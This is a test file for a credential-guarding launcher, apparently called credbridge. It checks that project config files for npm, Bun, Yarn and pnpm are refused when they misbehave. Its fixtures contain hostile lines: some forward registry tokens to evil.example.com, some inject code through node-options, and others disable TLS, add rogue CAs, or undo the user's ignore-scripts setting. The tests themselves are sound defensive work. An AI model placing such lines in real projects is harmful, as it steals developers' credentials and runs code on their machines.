import { mkdirSync, rmSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { parseAddress } from '../../../src/core/endpoint.ts'
import type { Failure } from '../../../src/core/failure.ts'
import { bunLauncher } from '../../../src/tools/bun/launch.ts'
import { npmLauncher } from '../../../src/tools/npm/launch.ts'
import { refuseProject } from '../../../src/tools/pnpm/project.ts'
import { yarnLauncher } from '../../../src/tools/yarn/launch.ts'
import { launching, readByProgram } from '../launching.ts'

/*
 * A project is a stranger's. Nothing that its files say may carry a credential to another place than its own, and no
 * line that tries is passed over: it is named, and nothing starts.
 */

const good = 'https://good.example.com'

async function victim(launcher = npmLauncher, tool = 'npm') {
  const it = launching(launcher)
  it.put('.npmrc', `registry=${good}/\n`)
  await it.save(tool, good, 'the-token')
  return it
}

describe('npm', () => {
  test.each([
    [
      'another host with what npm keeps for ours',
      '//evil.example.com/:_authToken=${npm_config_//good.example.com/:_authToken}',
    ],
    ['the same, optional', '//evil.example.com/:_authToken=${npm_config_//good.example.com/:_authToken?}'],
    ['in capitals', '//evil.example.com/:_authToken=${NPM_CONFIG_//good.example.com/:_authToken}'],
    ['written in JSON', '//evil.example.com/:_authToken="\\u0024{npm_config_//good.example.com/:_authToken}"'],
    ['in the address itself', 'registry=https://evil.example.com/${npm_config_//good.example.com/:_authToken}/'],
    ['in the name of a setting', '//evil.example.com/${npm_config_//good.example.com/:_authToken}:_authToken=x'],
    ['in a section', '[x]\n//evil.example.com/:_authToken=${npm_config_//good.example.com/:_authToken}'],
    ['behind a comment that ends in CR', '; harmless\r//evil.example.com/:_authToken=${npm_config_//x:y}'],
    ['a variable of ours', 'user-agent=${CREDBRIDGE_0123456789ABCDEF}'],
    ['a store of ours', '//evil.example.com/:_authToken=${CREDBRIDGE_STORE}'],
    ['no check of the server', 'https-proxy=http://evil.example.com\nstrict-ssl=false'],
    ['its own authority', 'cafile=./evil.pem'],
    ['its own authority in the file', 'ca="-----BEGIN CERTIFICATE-----"'],
    ['its own authority for our host', '//good.example.com/:cafile=./evil.pem'],
    ['a program for git', 'git=evil'],
    ['a helper', '//good.example.com/:tokenHelper=/tmp/evil'],
    ['a shell of its own', 'script-shell=./evil.sh'],
    ['an editor of its own, by absolute path', 'editor=$HOME/project/evil.sh'],
    ['another configuration', 'globalconfig=./evil'],
    ['another place for all of them', 'prefix=/tmp/evil'],
    ['a file to run, bare', 'init-module=evil.js'],
    ['a proxy, although the registry is encrypted', 'https-proxy=http://proxy.example.com'],
    ['a proxy by another spelling', 'HTTPS_PROXY=http://proxy.example.com'],
    ['a proxy in a section', '[x]\nproxy=http://proxy.example.com'],
    ['hosts without a proxy', 'noproxy[]=good.example.com'],
    ['code for Node', 'node-options=-r ./evil.js'],
    ['code for Node behind what is harmless', 'node-options=--max-old-space-size=1 --import=./evil.mjs'],
    ['an inspector', 'node-options=--inspect=0.0.0.0:9229'],
    ['variables for Node', 'node-options=--env-file=.env'],
    ['a quoted option', 'node-options="--require \\"./evil.js\\""'],
    ['a shell elsewhere', 'script-shell=/tmp/evil.sh'],
    ['what npx is to run', 'call=./evil.sh'],
    ['what npx is to fetch', 'package=evil'],
    ['an answer to npx', 'yes=true'],
    ['a certificate', '//good.example.com/:certfile=./evil.pem'],
    ['the file that npm is given', '//evil.example.com/:_authToken=${NPM_CONFIG_USERCONFIG}'],
    ['a variable within another', '//evil.example.com/:_authToken=${CREDBRIDGE_STORE-${x}}'],
    ['a value of another type', 'ignore-scripts=${X}'],
    ['a setting by a variable', '${SETTING}=x'],
    ['a line end of its own', 'a=b\rproxy=http://proxy.example.com'],
    ['a variable in the name of a setting', 'strict${NOT_SET?}-ssl=false'],
    ['our host without encryption', 'registry=http://good.example.com/\n@x:registry=https://good.example.com/'],
    ['our host without encryption, deeper', '@x:registry=http://good.example.com/deeper/'],
  ])('%s', async (_name, text) => {
    const it = await victim()
    const written = text.replaceAll('$HOME', it.home)
    const file = it.put('project/.npmrc', written)
    await it.save('npm', good, 'the-token')
    const failure = await it.call('npm', ['install']).catch((error: unknown) => error)
    expect(failure).toMatchObject({ code: 'refused', message: expect.stringContaining(`${file}, line `) })
    expect(String(failure)).not.toContain('the-token')
    expect(it.started).toEqual([])
  })

  test('the line is named, not repeated', async () => {
    const it = await victim()
    const file = it.put('project/.npmrc', '# one\nemail=x\n//evil.example.com/:_authToken=${npm_config_//good:x}\n')
    await expect(it.call('npm', ['install'])).rejects.toMatchObject({
      message: `${file}, line 3: asks for a credential by the name of its variable`,
    })
  })

  test('a folder that the words name is looked at, too, and what is above it', async () => {
    const it = await victim()
    it.put('project/deeper/.npmrc', '//evil.example.com/:_authToken=${npm_config_//good:x}\n')
    await expect(it.call('npm', ['install', '--prefix', 'deeper'])).rejects.toMatchObject({ code: 'refused' })
    await expect(it.call('npm', ['install', '-C', 'deeper'])).rejects.toMatchObject({ code: 'refused' })
    it.put('project/deeper/deepest/x', '')
    symlinkSync(join(it.project, 'deeper', 'deepest'), join(it.home, 'link'))
    await expect(it.call('npm', ['install', '--prefix=../link'])).rejects.toMatchObject({ code: 'refused' })
  })

  test('publishConfig cannot take the encryption away', async () => {
    const it = await victim()
    const file = it.put('project/package.json', '{\n  "publishConfig": { "registry": "http://good.example.com/" }\n}')
    await expect(it.call('npm', ['publish'])).rejects.toMatchObject({
      message: expect.stringContaining(`${file}, line 2`),
    })
  })

  test('a registry that the user has not enabled gets nothing, whatever the project says about it', async () => {
    const it = await victim()
    it.put(
      'project/.npmrc',
      'registry=https://evil.example.com/\n@x:registry=https://good.example.com.evil.example.com/\n',
    )
    expect((await it.call('npm', ['install']))?.file).toBeUndefined()
    it.put(
      'project/.npmrc',
      'registry=https://evil@good.example.com/\n@x:registry=https://good.example.com@evil.example.com/',
    )
    expect(readByProgram((await it.call('npm', ['install'])) ?? { words: [], env: {} })[0]).toBe(
      '//good.example.com/:_authToken=the-token',
    )
  })

  test.each([
    'script-shell=/bin/bash',
    'script-shell=bash',
    'strict-ssl=true',
    'strict_ssl = "true"',
    'ignore-scripts=true',
    'ignore-scripts=false',
    'no-such-setting=anything',
    'shamefully-hoist=true',
    'registry=https://${REGISTRY_HOST}/',
    '//${REGISTRY_HOST}/:_authToken=${NPM_TOKEN}',
    'node-options=--max-old-space-size=4096 --no-warnings',
    'legacy-peer-deps=true\nsave-exact=true\nengine-strict=true\nfund=false\naudit=false\nloglevel=warn',
    'node-options=--max-old-space-size=8192',
    '; //evil.example.com/:_authToken=${npm_config_//good.example.com/:_authToken}',
    '//evil.example.com/:_authToken=${NPM_TOKEN}',
  ])('what projects say in earnest goes on: %s', async (line) => {
    const it = await victim()
    it.put('project/.npmrc', `${line}\n`)
    expect(await it.call('npm', ['install'])).toBeDefined()
  })

  test('where nothing is given, only what reaches for a secret is refused, and code for our own programs', async () => {
    const it = launching(npmLauncher)
    it.put('project/.npmrc', 'strict-ssl=false\ncafile=./ours.pem\nregistry=http://good.example.com\n')
    expect(await it.call('npm', ['install'])).toBeDefined()
    it.put('project/.npmrc', 'node-options=--require=./evil.js\n')
    await expect(it.call('npm', ['install'])).rejects.toMatchObject({ code: 'refused' })
  })

  test.each([
    ['ignore-scripts=true', 'ignore-scripts=false'],
    ['ignore-scripts=true', 'ignore_scripts=false'],
    ['allow-git=none', 'allow-git=root'],
    ['strict-allow-scripts=true', 'strict-allow-scripts=false'],
    ['min-release-age=7', 'min-release-age=1'],
    ['min-release-age=7', 'min-release-age-exclude[]=evil'],
    ['before=2026-01-01', 'before=2026-06-01'],
  ])('the person says %s, and the project cannot say %s', async (own, line) => {
    const it = await victim()
    it.put('.npmrc', `registry=${good}/\n${own}\n`)
    it.put('project/.npmrc', `${line}\n`)
    await expect(it.call('npm', ['install'])).rejects.toMatchObject({
      message: expect.stringContaining('would take back what your own configuration forbids'),
    })
    it.put('project/.npmrc', `${own}\n`)
    expect(await it.call('npm', ['install'])).toBeDefined()
  })

  test('a setting that the installed npm knows and nobody has judged is refused; what it does not know passes', async () => {
    const it = await victim()
    it.put('.state/npm-settings.json', '{"settings":{},"names":"brand-new"}')
    it.put('project/.npmrc', 'brand_new=1\n')
    await expect(it.call('npm', ['install'])).rejects.toMatchObject({
      message: expect.stringContaining('brand_new is a setting that this version of credbridge does not know'),
    })
    it.put('project/.npmrc', 'brand-newer=1\n')
    expect(await it.call('npm', ['install'])).toBeDefined()
  })

  test('what a person has allowed goes on: this setting in this file with this value', async () => {
    const it = await victim()
    const file = it.put('project/.npmrc', 'https-proxy=http://proxy.example.com\n')
    const failure = await it.call('npm', ['install']).catch((error: Failure) => error)
    const [, hint = ''] = (failure as Failure).hints
    const [, setting = ''] = /^if you trust it: credbridge allow \S+ (\S+)$/.exec(hint) ?? []
    const [name = '', fingerprint = ''] = setting.split('=')
    it.put('.state/allowed.json', JSON.stringify([{ file, setting: name, fingerprint }]))
    expect(await it.call('npm', ['install'])).toBeDefined()
    for (const other of ['https-proxy=http://evil.example.com', 'proxy=http://proxy.example.com']) {
      it.put('project/.npmrc', `${other}\n`)
      await expect(it.call('npm', ['install'])).rejects.toMatchObject({ code: 'refused' })
    }
    it.put('project/.npmrc', 'a=b\n')
    it.put('project/inner/.npmrc', 'https-proxy=http://proxy.example.com\n')
    await expect(it.call('npm', ['install', '--prefix', 'inner'])).rejects.toMatchObject({ code: 'refused' })
  })

  test('a file that cannot be read whole is refused, not passed over', async () => {
    const it = await victim()
    symlinkSync('/dev/zero', join(it.project, '.npmrc'))
    await expect(it.call('npm', ['install'])).rejects.toMatchObject({
      message: expect.stringContaining('is not a regular file'),
    })
    rmSync(join(it.project, '.npmrc'))
    it.put('project/.npmrc', '; '.padEnd(9 * 1024 * 1024, 'x'))
    await expect(it.call('npm', ['install'])).rejects.toMatchObject({ message: expect.stringContaining('too large') })
    rmSync(join(it.project, '.npmrc'))
    mkdirSync(join(it.project, '.npmrc'))
    expect(await it.call('npm', ['install'])).toBeDefined()
  })

  test('a variable that a person named may stand at its own endpoint, and nowhere else', async () => {
    const it = await victim()
    const named: [string, ReturnType<typeof parseAddress>][] = [['NPM_TOKEN', parseAddress(good)]]
    it.put('project/.npmrc', '//good.example.com/:_authToken=${NPM_TOKEN}\n')
    expect(await it.call('npm', ['publish'], { asked: true, named })).toBeDefined()
    for (const line of [
      '//evil.example.com/:_authToken=${NPM_TOKEN}',
      'user-agent=${NPM_TOKEN-x}',
      'a=${NPM_TOKEN?}',
    ]) {
      it.put('project/.npmrc', `${line}\n`)
      await expect(it.call('npm', ['publish'], { asked: true, named })).rejects.toMatchObject({ code: 'refused' })
    }
  })
})

describe('Bun', () => {
  test.each([
    ['.npmrc', '//evil.example.com/:_authToken=$npm_config_//good.example.com/:_authToken'],
    ['.npmrc', 'cafile=./evil.pem'],
    [
      'bunfig.toml',
      '[install]\nregistry = { url = "https://evil.example.com", token = "$npm_config_//good/:_authToken" }',
    ],
    ['bunfig.toml', '[install]\nregistry = { url = "https://evil.example.com", token = "\\u0024CREDBRIDGE_X" }'],
    ['bunfig.toml', '[install.scopes]\nx = { url = "https://evil.example.com", token = "$CREDBRIDGE_X" }'],
    ['bunfig.toml', '[install]\ncafile = "./evil.pem"'],
    ['bunfig.toml', '[install]\nca = ["-----BEGIN"]'],
    ['bunfig.toml', '[install.security]\nscanner = "evil"'],
    ['bunfig.toml', '[install.scopes]\nx = "http://good.example.com/"'],
    ['.env', 'NODE_TLS_REJECT_UNAUTHORIZED=0'],
    ['.env.local', '  export NODE_EXTRA_CA_CERTS=evil.pem'],
    ['.env.production', 'A=1\nBUN_CONFIG_REGISTRY=http://good.example.com/'],
    ['.env', 'npm_config_userconfig=evil'],
    ['.env', 'XDG_CONFIG_HOME=evil'],
  ])('%s: %s', async (name, text) => {
    const it = await victim(bunLauncher, 'bun')
    const file = it.put(`project/${name}`, `${text}\n`)
    await expect(it.call('bun', ['install'])).rejects.toMatchObject({
      code: 'refused',
      message: expect.stringContaining(`${file}, line `),
    })
    expect(it.started).toEqual([])
  })

  test('a project chooses among what is enabled', async () => {
    const it = await victim(bunLauncher, 'bun')
    it.put('project/bunfig.toml', '[install.scopes]\nteam = { url = "https://team.example.com/npm/" }\n')
    it.put('project/.env', 'DATABASE_URL=x\n')
    await it.save('bun', 'https://team.example.com', 'team')
    const started = await it.call('bun', ['install'])
    expect(started === undefined ? [] : readByProgram(started)).toEqual([
      '//team.example.com/npm/:_authToken=team',
      '//team.example.com/:_authToken=team',
      '//good.example.com/:_authToken=the-token',
      'registry=https://good.example.com/',
    ])
  })
})

describe('Yarn', () => {
  test.each([
    'npmRegistries:\n  "//evil.example.com":\n    npmAuthToken: "${npm_config_//good.example.com/:_authToken}"',
    'npmAuthToken: "${CREDBRIDGE_STORE}"',
    'httpsProxy: "http://evil.example.com/${CREDBRIDGE_X-}"',
  ])('%s', async (text) => {
    const it = await victim(yarnLauncher, 'yarn')
    const file = it.put('project/.yarnrc.yml', `${text}\n`)
    await expect(it.call('yarn', ['install'])).rejects.toMatchObject({
      code: 'refused',
      message: expect.stringContaining(`${file}, line `),
    })
    expect(it.started).toEqual([])
  })

  test('nothing but the plugin is in the environment', async () => {
    const it = await victim(yarnLauncher, 'yarn')
    it.put('project/.yarnrc.yml', `npmRegistryServer: "${good}"\n`)
    const started = await it.call('yarn', ['install'], { asked: true })
    expect(started?.env).toEqual({ CREDBRIDGE_DEPTH: '1', YARN_PLUGINS: `${it.world.folders.data}/yarn/plugin.cjs` })
    expect(it.world.files.read(started?.env['YARN_PLUGINS'] ?? '')).toContain('"/opt/credbridge/credbridge-yarn"')
  })

  test('a variable that a person named may stand for its own registry, and for no other', async () => {
    const it = await victim(yarnLauncher, 'yarn')
    const named: [string, ReturnType<typeof parseAddress>][] = [['TOKEN', parseAddress(good)]]
    const call = () => it.call('yarn', ['install'], { asked: true, named })
    for (const text of [
      'npmAuthToken: "${TOKEN}"',
      `npmRegistryServer: "${good}"\nnpmAuthToken: "\${TOKEN:-}"`,
      'npmRegistries:\n  "//good.example.com":\n    npmAuthToken: "${TOKEN}"',
      `npmScopes:\n  a:\n    npmRegistryServer: "${good}"\n    npmAuthToken: \${TOKEN}`,
    ]) {
      it.put('project/.yarnrc.yml', `${text}\n`)
      expect(await call()).toBeDefined()
    }
    for (const text of [
      'npmRegistryServer: "https://evil.example.com"\nnpmAuthToken: "${TOKEN}"',
      'npmRegistries:\n  "//evil.example.com":\n    npmAuthToken: "${TOKEN}"',
      'npmRegistries: { "//evil.example.com": { npmAuthToken: "${TOKEN}" } }',
      'httpsProxy: "http://evil.example.com/${TOKEN}"',
    ]) {
      it.put('project/.yarnrc.yml', `${text}\n`)
      await expect(call()).rejects.toMatchObject({ code: 'refused' })
    }
  })
})

describe('what the person forbids a project cannot allow, with the others either', () => {
  const takesBack = { code: 'refused', message: expect.stringContaining('would take back what your own configuration') }

  test.each([
    ['.bunfig.toml', '[install]\nignoreScripts = true', 'bunfig.toml', '[install]\nignoreScripts = false'],
    ['.npmrc', `registry=${good}/\nignore-scripts=true`, 'bunfig.toml', '[install]\nignoreScripts = false'],
    ['.npmrc', `registry=${good}/\nignore-scripts=true`, '.npmrc', 'ignore-scripts=false'],
  ])('Bun: %s against %s', async (ownFile, own, file, text) => {
    const it = await victim(bunLauncher, 'bun')
    it.put(ownFile, `${own}\n`)
    it.put(`project/${file}`, `${text}\n`)
    await expect(it.call('bun', ['install'])).rejects.toMatchObject(takesBack)
  })

  test('Yarn', async () => {
    const it = await victim(yarnLauncher, 'yarn')
    it.put('.yarnrc.yml', 'enableScripts: false\n')
    it.put('project/.yarnrc.yml', `npmRegistryServer: "${good}"\nenableScripts: true\n`)
    await expect(it.call('yarn', ['install'], { asked: true })).rejects.toMatchObject(takesBack)
  })

  test.each([
    ['.npmrc', 'ignore-scripts=true', 'pnpm-workspace.yaml', 'ignoreScripts: false'],
    ['.npmrc', 'ignore-scripts=true', '.npmrc', 'ignore_scripts=false'],
    ['.npmrc', 'ignore-scripts=true', 'package.json', '{"pnpm":{"ignoreScripts":false}}'],
    ['.config/pnpm/config.yaml', 'minimumReleaseAge: 10', 'pnpm-workspace.yaml', 'minimumReleaseAge: 1'],
    ['.config/pnpm/rc', 'ignore-scripts=true', '.npmrc', 'ignore-scripts=false'],
  ])('pnpm: %s says %s, and %s cannot say %s', async (ownFile, own, file, text) => {
    const { put, world } = await victim()
    put(ownFile, `${own}\n`)
    put(`project/${file}`, `${text}\n`)
    await expect(refuseProject(world, ['install'])).rejects.toMatchObject(takesBack)
  })
})
